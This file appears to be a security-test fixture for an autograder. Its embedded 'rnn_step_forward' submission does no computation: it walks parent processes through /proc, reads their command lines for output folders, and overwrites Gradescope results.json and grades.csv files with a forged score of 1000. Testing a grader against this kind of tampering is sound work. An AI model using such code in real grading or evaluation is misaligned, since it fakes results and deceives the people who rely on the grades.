"""Writes a results.json with full marks (and a gradebook) wherever the grader keeps them:
Gradescope's /autograder/results, the folders named on its parents' command lines
(``--root``, ``--out``), the output folder of a previous run ($OUT) and the marker; then
reports where it managed to write."""

QUESTION = "rnn_step_forward"
MESSAGE = r"forge attack: wrote \[\]"
SOURCE = '''
def rnn_step_forward(x, prev_h, Wx, Wh, b):
    import json, os
    forged = json.dumps({"score": 1000, "tests": [], "output": "forged"})
    folders = ["/autograder", "$OUT"]
    pid = os.getpid()
    for _ in range(3):
        try:
            with open(f"/proc/{pid}/status") as fh:
                pid = int([l for l in fh if l.startswith("PPid:")][0].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                words = fh.read().decode(errors="replace").split("\\0")
        except (OSError, IndexError, ValueError):
            break
        folders += [b for a, b in zip(words, words[1:]) if a in ("--root", "--out")]
    targets = ["$MARKER"]
    for folder in folders:
        targets += [os.path.join(folder, "results", "results.json"), os.path.join(folder, "results.json"),
                    os.path.join(folder, "grades.csv"), os.path.join(folder, "attacker", "results.json")]
    wrote = []
    for path in targets:
        try:
            with open(path, "w") as fh:
                fh.write(forged)
            wrote.append(path)
        except OSError:
            pass
    raise RuntimeError(f"forge attack: wrote {wrote}")
'''
